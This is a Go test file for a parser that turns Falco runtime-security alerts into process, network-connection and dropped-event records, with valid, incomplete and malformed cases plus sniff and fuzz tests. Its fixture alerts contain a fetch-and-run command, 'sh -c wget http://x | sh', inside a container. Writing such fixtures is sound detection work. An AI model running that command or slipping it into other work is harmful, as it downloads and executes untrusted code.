package falco

import (
	"net/netip"
	"strings"
	"testing"

	"tidewaiter/event"
	"tidewaiter/image"
	"tidewaiter/source/sourcetest"
)

var at = event.Time{At: 1793700000*event.Second + 123456780, Res: event.Nanosecond}

// alert is an alert with further output fields.
func alert(fields string) string {
	return `{"hostname":"node-1","output":"x","priority":"Notice","rule":"Some rule","source":"syscall","tags":["a"],"time":"2026-11-03T10:00:00.12345678Z","output_fields":{"evt.time":1793700000123456780,` + fields + `}}`
}

const shell = `"proc.pid":4711,"proc.ppid":4700,"proc.exepath":"/bin/busybox","proc.name":"sh","proc.cmdline":"sh -c wget http://x | sh","proc.pname":"runc","proc.pcmdline":"runc init","user.uid":0,"user.name":"root","user.loginuid":-1,` +
	`"container.id":"f29b261f8831","container.image.repository":"reg.example/web","container.image.tag":"1","container.image.digest":null,"k8s.ns.name":"prod","k8s.pod.name":"web-1","k8s.pod.uid":"<NA>"`

func cases() map[string]sourcetest.Want {
	of := &event.PodRef{Namespace: "prod", Pod: "web-1", Image: image.Parse("reg.example/web:1")}
	process := &event.Process{
		PID: 4711, PPID: 4700, Exe: "/bin/busybox", Comm: "sh", Args: []string{"sh", "-c", "wget http://x | sh"}, UID: 0, AUID: -1, Session: -1,
		User: "root", ParentCommand: "runc init", Container: "f29b261f8831", Of: of,
	}
	socket := func(to string, success bool) *event.Socket {
		return &event.Socket{PID: 4711, PPID: 4700, Exe: "/bin/busybox", Comm: "sh", AUID: -1, Addr: netip.MustParseAddrPort(to), Success: success, Container: "f29b261f8831", Of: of}
	}
	connect := func(fd string) string { return alert(shell + `,"evt.type":"connect"` + fd) }
	return map[string]sourcetest.Want{
		alert(shell + `,"evt.type":"execve"`):                                                                     {At: at, Body: process},
		alert(shell + `,"evt.type":"execveat"`):                                                                   {At: at, Body: process},
		connect(`,"fd.name":"10.42.0.7:41446->203.0.113.66:3333"`):                                                {At: at, Body: socket("203.0.113.66:3333", true)},
		connect(`,"fd.name":"2001:db8::7:41446->2001:db8::9:443","evt.res":"EINPROGRESS"`):                        {At: at, Body: socket("[2001:db8::9]:443", true)},
		connect(`,"fd.rip":"203.0.113.66","fd.rport":"3333","evt.res":"ECONNREFUSED"`):                            {At: at, Body: socket("203.0.113.66:3333", false)},
		connect(`,"fd.rip":null,"fd.sip":"::ffff:203.0.113.66","fd.sport":3333`):                                  {At: at, Body: socket("203.0.113.66:3333", true)},
		strings.Replace(alert(`"n_drops":"17"`), "Some rule", dropAlert, 1):                                       {At: at, Body: &event.Loss{Reason: "Falco dropped system calls", Count: 17}},
		alert(`"proc.pid":7,"evt.type":"execve","proc.cmdline":"<NA>","proc.exepath":"/x","container.id":"host"`): {At: at, Body: &event.Process{PID: 7, Exe: "/x", UID: -1, AUID: -1, Session: -1}},
		// What says too little.
		alert(shell):                                     {},
		alert(shell + `,"evt.type":"openat"`):            {},
		alert(`"evt.type":"execve","proc.cmdline":"sh"`): {},
		connect(""):                         {},
		connect(`,"fd.name":"/run/x.sock"`): {},
		strings.Replace(alert(shell+`,"evt.type":"execve"`), `"syscall"`, `"k8s_audit"`, 1): {},
		`{"rule":"r","time":"2026-11-03T10:00:00Z","output_fields":null}`:                   {},
		`{"rule":"r","time":"2026-11-03T10:00:00Z","output":"x"}`:                           {},
		// What can't be.
		`{"rule":null,"time":"2026-11-03T10:00:00Z","output_fields":{}}`:                                               {Fault: "no alert of Falco"},
		`{"rule":"r","output_fields":{}}`:                                                                              {Fault: "no alert of Falco"},
		`{"rule":"r","time":"yesterday","output_fields":{}}`:                                                           {Fault: "time: "},
		`{"rule":"r","time":"1926-11-03T10:00:00Z","output_fields":{}}`:                                                {Fault: "time: "},
		alert(`"evt.type":"execve","proc.pid":-7`):                                                                     {Fault: "process id"},
		alert(`"evt.type":"execve","proc.pid":0`):                                                                      {Fault: "no process id"},
		alert(`"evt.type":"execve","proc.pid":7`):                                                                      {Fault: "without its file"},
		alert(`"evt.type":"execve","proc.pid":7,"proc.pid":8,"proc.cmdline":"a"`):                                      {Fault: "proc.pid"},
		alert(`"evt.type":"execve","proc.pid":7,"proc.cmdline":"a","container.id":"` + strings.Repeat("x", 600) + `"`): {Fault: "longer"},
		connect(`,"fd.rip":"x","fd.rport":1`):                                                                          {Fault: "address"},
		connect(`,"fd.rip":"192.0.2.1","fd.rport":70000`):                                                              {Fault: "port"},
		connect(`,"fd.name":"a->b:c"`):                                                                                 {Fault: "address"},
		strings.Replace(alert(`"n_drops":-1`), "Some rule", dropAlert, 1):                                              {Fault: "n_drops"},
	}
}

func TestAlerts(t *testing.T) {
	for text, want := range cases() {
		t.Run(text, func(t *testing.T) { sourcetest.Check(t, Alerts(), text, want) })
	}
	sourcetest.Check(t, Alerts(), `["x"]`, sourcetest.Want{Fault: "JSON"})
	events, _ := sourcetest.Decode(t, Alerts(), alert(shell+`,"evt.type":"execve"`))
	again, _ := sourcetest.Decode(t, Alerts(), strings.Replace(alert(shell+`,"evt.type":"execve"`), "Some rule", "Another rule", 1))
	if len(events) != 1 || events[0].Place.Host != "node-1" || events[0].ID != again[0].ID {
		t.Errorf("%+v\n%+v", events, again)
	}
}

func TestSniff(t *testing.T) {
	for text, want := range map[string]bool{
		alert(shell): true, `{"output":"x","priority":"Notice","rule":"r","time":"t"}`: true,
		"": false, `{"rule":"x"}`: false, `{"rule":{"id":1},"time":"t","message":"m"}`: false,
	} {
		if got := sourcetest.Sniff(Alerts(), text) > 0; got != want {
			t.Errorf("%.60s: %v", text, got)
		}
	}
}

func FuzzAlerts(f *testing.F) {
	for text := range cases() {
		f.Add([]byte(text))
	}
	sourcetest.Fuzz(f, Alerts(), nil, nil)
}
